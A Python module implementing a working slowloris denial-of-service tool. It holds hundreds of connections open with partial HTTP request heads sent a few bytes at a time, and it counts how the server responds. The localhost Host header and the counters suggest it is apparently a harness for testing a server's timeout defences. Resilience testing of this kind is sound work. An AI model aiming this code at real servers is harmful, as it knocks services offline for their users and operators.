"""A slowloris: many connections that send their request head a few bytes at a time and never finish it.

One thread drives every socket (no thread per connection), so a few hundred connections cost little. Every
``interval`` seconds each live socket sends one more header line, and sockets the server closed are replaced,
keeping ``connections`` open for as long as the attack runs (bounded by ``max_opened`` in total).

Counters: ``opened`` (connections made), ``closed_by_server`` (the server closed or reset them), ``answers``
(first bytes of what the server wrote before closing, e.g. ``b"HTTP/1.1 408"``).
"""

from __future__ import annotations

import selectors
import socket
import threading
import time


class Slowloris:
    def __init__(self, host: str, port: int, connections: int, *, interval: float = 0.5,
                 max_opened: int = 20_000) -> None:
        self.host, self.port = host, port
        self.connections = connections
        self.interval = interval
        self.max_opened = max_opened
        self.opened = 0
        self.closed_by_server = 0
        self.connect_failures = 0
        self.answers: list[bytes] = []
        self._live: dict[socket.socket, int] = {}
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def __enter__(self) -> "Slowloris":
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def live(self) -> int:
        return len(self._live)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(30)

    def _open(self) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(5)
        try:
            sock.connect((self.host, self.port))
            sock.sendall(b"POST /agora/invoices HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        except OSError:
            sock.close()
            self.connect_failures += 1
            return
        sock.setblocking(False)
        self.opened += 1
        self._live[sock] = 0
        self._selector.register(sock, selectors.EVENT_READ)

    def _drop(self, sock: socket.socket) -> None:
        self._selector.unregister(sock)
        del self._live[sock]
        sock.close()

    def _run(self) -> None:
        next_tick = time.monotonic()
        while not self._stop.is_set():
            now = time.monotonic()
            if now >= next_tick:
                next_tick = now + self.interval
                while len(self._live) < self.connections and self.opened < self.max_opened \
                        and not self._stop.is_set():
                    self._open()
                for sock in list(self._live):
                    try:
                        sock.send(b"X-Slow-%d: 1\r\n" % self._live[sock])
                        self._live[sock] += 1
                    except (BlockingIOError, InterruptedError):
                        pass
                    except OSError:
                        self.closed_by_server += 1
                        self._drop(sock)
            for key, _ in self._selector.select(timeout=max(0.0, min(0.1, next_tick - time.monotonic()))):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    data = sock.recv(4096)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if data:
                    self.answers.append(data[:12])
                self.closed_by_server += 1
                self._drop(sock)
        for sock in list(self._live):
            self._drop(sock)
        self._selector.close()


__all__ = ["Slowloris"]
